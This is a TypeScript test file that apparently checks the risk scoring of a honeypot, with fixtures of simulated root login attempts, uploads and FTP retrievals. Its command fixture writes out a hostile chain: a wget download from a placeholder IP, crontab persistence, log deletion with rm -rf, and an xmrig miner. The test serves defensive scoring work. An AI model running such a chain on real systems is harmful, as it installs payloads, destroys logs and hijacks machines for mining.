import assert from "node:assert/strict";
import { aggregateOf, every } from "../../tests/support/profile_lines.ts";
import { riskOf } from "./risk.ts";

Deno.test("riskOf() is the sum of its parts, the largest first, and no more than 100", () => {
  const command =
    "wget http://192.0.2.9/x; chmod 777 x; crontab x; rm -rf /var/log/*; xmrig; ssh x";
  const events = [
    ...every(5, 200, { type: "auth_attempt", fields: { username: "root", password: "x" } }),
    ...every(9, 2, { type: "auth_attempt", decky: "web-02", fields: { outcome: "success" } }),
    ...every(7, 50, { type: "command", fields: { command } }),
    ...every(7, 50, { type: "upload", fields: { sha256: "ab" } }),
    ...every(7, 50, { type: "retr", service: "ftp" }),
  ];
  const { score, parts } = riskOf(aggregateOf(events), "interactive");
  assert.equal(score, 100);
  const points = parts.map((part) => part.points);
  assert.deepEqual(points, [...points].sort((one, other) => other - one));
  const few = riskOf(aggregateOf(events.slice(0, 20)), "brute_force");
  assert.equal(few.score, few.parts.reduce((sum, part) => sum + part.points, 0));
  assert.deepEqual(riskOf(aggregateOf([]), "unknown"), { score: 0, parts: [] });
});
